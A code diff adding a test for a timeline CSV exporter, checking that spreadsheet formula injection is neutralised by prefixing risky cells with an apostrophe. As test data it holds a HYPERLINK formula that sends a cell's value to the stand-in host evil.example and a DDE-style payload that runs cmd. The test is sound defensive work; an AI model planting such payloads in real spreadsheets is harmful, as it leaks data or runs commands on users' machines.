@@ -60,3 +60,22 @@ def test_date_range_and_filter_choose_the_rows(tmp_path):
     written = export_timeline(_Doc(t), tmp_path / "out.csv", options)
     assert [r["id"] for r in _read(written[0])] == ["improvement-plan"]
     assert _read(written[1]) == []  # the plan has no quotes: a header-only quotes file
+
+
+def test_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
+    """An imported file's text must not become a live formula when a colleague opens the CSV."""
+    t = sample_timeline()
+    event = t.events_in_order()[0]
+    event.title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    event.summary = "+1 means the same"
+    event.quotes[0].text = "@SUM(1+1)*cmd|' /C calc'!A0"
+    event.note = "-minus first"
+    events_path, quotes_path = write_csv(t, tmp_path / "t.csv")
+    row = next(r for r in _read(events_path) if r["id"] == event.id)
+    assert row["title"] == "'" + event.title
+    assert row["summary"] == "'+1 means the same"
+    assert row["note"] == "'-minus first"
+    quote = next(q for q in _read(quotes_path) if q["event_id"] == event.id)
+    assert quote["text"] == "'" + event.quotes[0].text
+    # ordinary text is untouched
+    assert next(r for r in _read(events_path) if r["id"] != event.id)["title"][0] != "'"
